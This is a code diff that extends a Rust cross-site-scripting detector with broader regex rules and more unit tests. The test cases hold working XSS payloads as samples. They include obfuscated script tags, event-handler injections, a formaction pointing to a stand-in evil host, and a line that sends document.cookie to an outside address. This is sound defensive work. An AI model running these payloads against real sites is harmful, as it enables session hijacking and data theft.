@@ -1,17 +1,22 @@
 //! Cross-site scripting: markup that a browser would parse into script — a tag with an event
-//! handler or a script-capable URL, a script-capable element, a quote break into an event
-//! handler attribute, a `javascript:` URL (control characters inside the scheme removed, as
-//! browsers do), or a call of a script sink (`alert(`, `document.cookie`, `eval(`).
+//! handler or a script-capable URL, a script-capable or raw-text element (also with its tag
+//! name spelled letter by letter), a quote break into an event handler or script-URL
+//! attribute, a `javascript:` or markup-carrying `data:` URL (control characters inside the
+//! scheme removed, as browsers do), or a call of a script sink (`alert(`, `eval(`). A bare
+//! member name (`document.cookie`) counts only with some JS punctuation around it: alone it
+//! is a file name or a documentation search.
 
 use super::prefilter::{lits, LitId, LitSet};
 use super::rules::{first, Rule};
 use super::{AttackType, Detector, Finding};
 use crate::point::Leaf;
 
-const EVENTS: &str = r"on(?:abort|activate|after\w+|animation\w+|before\w+|blur|begin|bounce|cancel|canplay\w*|change|click|close|contextmenu|copy|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|focus\w*|formdata|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|move\w*|page\w+|paste|pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll\w*|search|seek\w*|select\w*|show|start|submit|toggle|touch\w+|transition\w+|unload|volumechange|waiting|wheel|content\w+|auxclick|play\w*|pause|ratechange|stalled|suspend|timeupdate|emptied|loadstart|fullscreen\w*|message\w*|offline|online|storage)";
+const EVENTS: &str = r"on(?:abort|activate|after\w+|animation\w+|before\w+|blur|begin|bounce|cancel|canplay\w*|change|click|close|contextmenu|copy|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|focus\w*|formdata|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|move\w*|page\w+|paste|pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll\w*|search|seek\w*|select\w*|show|start|submit|toggle|touch\w+|transition\w+|unload|volumechange|waiting|wheel|content\w+|auxclick|play\w*|pause|ratechange|stalled|suspend|timeupdate|emptied|loadstart|fullscreen\w*|message\w*|offline|online|storage|webkit\w+|moz\w+|error\w+|securitypolicyviolation|slotchange|cuechange|gotpointercapture|lostpointercapture|command|visibilitychange|languagechange|controlselect|deactivate|filterchange|help|losecapture|propertychange|rows\w+|stop|data\w+|layoutcomplete|cellchange|timeerror|media\w+|outofsync|resume|reverse|syncrestored|urlflip|zoom)";
 
 pub struct Xss {
     rules: Vec<Rule>,
+    /// See [`MEMBER_RULES`].
+    member: Vec<Rule>,
     /// Names whose presence makes JS normalisation worth its allocation.
     js_gate: Vec<LitId>,
 }
@@ -24,18 +29,27 @@ impl Xss {
                 r"<\s*/?\s*(?:script|iframe|frame|frameset|object|embed|applet|base|meta|svg|math|xss|isindex|import|template|portal|set|animate\w*|handler|vmlframe|xml|style|link|form|button|details|marquee|body|video|audio|source|image|img|input|textarea|keygen|select|bgsound|layer|ilayer|a|div|span|p|x|h1|table|td|html)\b[^>]*?(?:\b(?:href|src|data|action|formaction|xlink:href|background|dynsrc|lowsrc|code|codebase|poster)\s*=\s*['`\x22]?\s*(?:javascript|vbscript|livescript|data)\s*:|[\s/'`]on[a-z]{3,}\s*=)",
                 "tag with script attribute",
             ),
+            // Elements that run or load script by themselves; the raw-text elements whose
+            // content the parser does not treat as markup, the usual carriers of mutation XSS
+            // (`<noscript><p title="</noscript><img …>`); and tag names spelled letter by
+            // letter (`<s c r i p t`) for filters that collapse whitespace afterwards. One
+            // regex, one pass over values with `<`.
             Rule::new(
                 &["<"],
-                r"<\s*(?:[a-z]+:)?(?:script|iframe|frameset|object|embed|applet|svg|math|isindex|xss|portal|vmlframe|style)[\s/>]|<\s*(?:base|meta|link)\s[^>]*\b(?:href|http-equiv|charset|content)\s*=",
+                &format!(
+                    r"<\s*(?:[a-z]+:)?(?:script|iframe|frameset|object|embed|applet|svg|math|isindex|xss|portal|vmlframe|style)[\s/>]|<\s*(?:base|meta|link)\s[^>]*\b(?:href|http-equiv|charset|content)[\s/]*=|<\s*(?:script|noscript|noembed|noframes|xmp|plaintext)\b|<\s*/\s*script\s*>|{}",
+                    spaced_tags()
+                ),
                 "script-capable element",
             ),
-            Rule::new(&["<"], r"<\s*script\b|<\s*/\s*script\s*>", "script element"),
             Rule::new(
                 &["="],
                 &format!(
-                    r#"(?:^|["'`;\s/])\s*{EVENTS}\s*=(?:\s*\S|\s*$)|["'`]\s*on[a-z]{{4,}}\s*="#
+                    r#"(?:^|["'`;\s/])\s*{EVENTS}\s*=(?:\s*\S|\s*$)|["'`]\s*on[a-z]{{4,}}\s*=|["'`][\s/]*(?:formaction|srcdoc|xlink:href|dynsrc|lowsrc)\s*="#
                 ),
-                "event handler attribute",
+                // The last form: a quote break into an attribute that takes a script URL or a
+                // whole document.
+                "event handler or script-url attribute",
             ),
             Rule::new(
                 &["url"],
@@ -80,18 +94,31 @@ impl Xss {
             ),
             Rule::new(
                 &["script", "data:", "mocha"],
-                r"(?:^|[\s'`=(\x22]|&)\s*(?:javascript|vbscript|livescript|mocha)\s*:|data:\s*(?:text/html|image/svg\+xml|application/x?html)[;,]",
+                r"(?:^|[\s'`=(\x22]|&)\s*(?:javascript|vbscript|livescript|mocha)\s*:|data:\s*(?:text/html|image/svg\+xml|application/x?html)[;,]|\bdata\s*:\s*[a-z0-9/+.=;-]*\s*,\s*<\s*[a-z!/?]",
                 "script URL",
             ),
             Rule::new(
                 &["(", "`"],
-                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|expression|import)\s*(?:\(|`)",
+                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression|import)\s*(?:\(|`)|\bnew\s+function(?:\(|`)",
                 "script sink call",
             ),
             Rule::new(
                 &["document", "window", "location", "innerhtml", "cookie"],
-                r"\b(?:document\s*\.\s*(?:cookie|write|writeln|domain|location|body|createelement|getelementby\w+|forms|images|documentelement|queryselector\w*)|window\s*\.\s*(?:location|open|name|eval)|\.\s*(?:innerhtml|outerhtml)\s*=|(?:top|self|parent|frames)\s*\[\s*['`])",
+                r"\b(?:document\s*\.\s*(?:cookie|write|writeln|domain|location|body|createelement|getelementby\w+|forms|images|documentelement|queryselector\w*)|window\s*\.\s*(?:location|open|name|eval)|\.\s*(?:innerhtml|outerhtml)\s*=)",
                 "DOM sink access",
+            ),
+            // A script element whose `<` and `>` a filter stripped leaves its name glued to
+            // the code (`scriptalert(1)/script`); no word ends in `script` before a sink.
+            Rule::new(
+                &["script"],
+                r"script(?:(?:alert|prompt|confirm|eval|settimeout|setinterval|fromcharcode|atob|btoa)\s*(?:\(|`)|(?:document|window)\s*\.\s*(?:cookie|location|write|domain|open|eval))",
+                "script element with its brackets stripped",
+            ),
+            // `top["al"+"ert"]`: a global looked up by a computed string.
+            Rule::new(
+                &["["],
+                r"\b(?:top|self|parent|frames|window|globalthis)\s*\[\s*['`\x22]",
+                "global object sink",
             ),
             Rule::new(
                 &["binding", "behavio", "@import"],
@@ -104,8 +131,15 @@ impl Xss {
                 "markup hiding script",
             ),
         ];
+        // Rules that match a bare member name (`document.cookie`): on their own such names are
+        // a file name or a search for documentation; as script they come with an operator or
+        // a call, so these only count when the value has some JS punctuation.
+        let (member, rules) = rules
+            .into_iter()
+            .partition(|r| MEMBER_RULES.contains(&r.reason));
         Xss {
             rules,
+            member,
             js_gate: lits(&[
                 "document",
                 "window",
@@ -124,6 +158,23 @@ impl Xss {
             ]),
         }
     }
+}
+
+/// `<[\s\x00]*s[\s\x00]+c[\s\x00]+r…\b|…` for the tag names an injection needs: no text
+/// spells a tag name letter by letter after `<`.
+fn spaced_tags() -> String {
+    let names = [
+        "script", "iframe", "form", "object", "embed", "applet", "svg", "style", "meta", "link",
+        "base", "img", "frameset",
+    ];
+    let alts: Vec<String> = names
+        .iter()
+        .map(|n| {
+            let letters: Vec<String> = n.chars().map(String::from).collect();
+            letters.join(r"[\s\x00]+")
+        })
+        .collect();
+    format!(r"<[\s\x00]*(?:{})\b", alts.join("|"))
 }
 
 /// JavaScript written to dodge property-name patterns, rewritten to plain member access:
@@ -213,7 +264,8 @@ impl Detector for Xss {
 
     fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
         let lower = leaf.lower.as_str();
-        if let Some((a, b, reason)) = first(&self.rules, lower, present) {
+        let js_syntax = || lower.bytes().any(|c| JS_PUNCT.contains(&c));
+        if let Some((a, b, reason)) = self.first(lower, present, &js_syntax) {
             return Some(Finding { at: a..b, reason });
         }
         let js = present
@@ -221,7 +273,9 @@ impl Detector for Xss {
             .then(|| js_normalize(lower))
             .flatten();
         if let Some(norm) = js {
-            if let Some((_, _, reason)) = first(&self.rules, &norm, &LitSet::all()) {
+            if let Some((_, _, reason)) = self.first(&norm, &LitSet::all(), &|| {
+                lower.contains("/*") || js_syntax()
+            }) {
                 return Some(Finding {
                     at: 0..lower.len(),
                     reason,
@@ -234,10 +288,26 @@ impl Detector for Xss {
             return None;
         }
         let stripped = strip_controls(lower)?;
-        first(&self.rules, &stripped, &LitSet::all()).map(|(_, _, reason)| Finding {
-            at: 0..lower.len(),
-            reason,
-        })
+        self.first(&stripped, &LitSet::all(), &js_syntax)
+            .map(|(_, _, reason)| Finding {
+                at: 0..lower.len(),
+                reason,
+            })
+    }
+}
+
+const MEMBER_RULES: &[&str] = &["DOM sink access", "global object sink"];
+const JS_PUNCT: &[u8] = b"()=+;'\"<>`[]{},";
+
+impl Xss {
+    fn first(
+        &self,
+        text: &str,
+        present: &LitSet,
+        js_syntax: &dyn Fn() -> bool,
+    ) -> Option<(usize, usize, &'static str)> {
+        first(&self.rules, text, present)
+            .or_else(|| first(&self.member, text, present).filter(|_| js_syntax()))
     }
 }
 
@@ -271,6 +341,25 @@ mod tests {
             "x=x:url(javascript:alert(1))",
             "(![]+[])[+!+[]]",
             "\"  onload= ",
+            "  onwebkitanimationend= ",
+            "<link rel=stylesheet href / = //evil.example/x.css",
+            "\"formaction=//evil.example",
+            "' srcdoc=&lt;svg",
+            "<s c r i p t>",
+            "x<i\tf r a m e src=//evil>",
+            "data:,<svg onload=x>",
+            "data: text/plain , <b>",
+            "btoa(document.body.innerHTML)",
+            "new Function`alert\x281\x29`",
+            "\"onpropertychange=x",
+            "x' onerrorupdate=y",
+            "scriptalert(1)/script",
+            "scriptdocument.location='//evil/'+1",
+            "<noscript><p title=\"</noscript><img src=x>\">",
+            "location=document.cookie",
+            "top[\"al\"+\"ert\"](1)",
+            "window[`ev`+`al`](name)",
+            "new Image().src='//e/?c='+document.cookie",
         ] {
             assert!(hit(v), "{v}");
         }
@@ -292,6 +381,17 @@ mod tests {
             "the top. parent company",
             "![](image.png)",
             "meta description here",
+            "/javascript-manual/document.cookie",
+            "how to read document.cookie in js",
+            "window.location vs document.location",
+            "the form is on the s c r e e n",
+            "< f o o >",
+            "data: 1, 2, 3 < 4",
+            "description(s)",
+            "a manuscript alerting readers",
+            "moz",
+            "help = 3",
+            "a new function (in math)",
         ] {
             assert!(!hit(v), "{v}");
         }
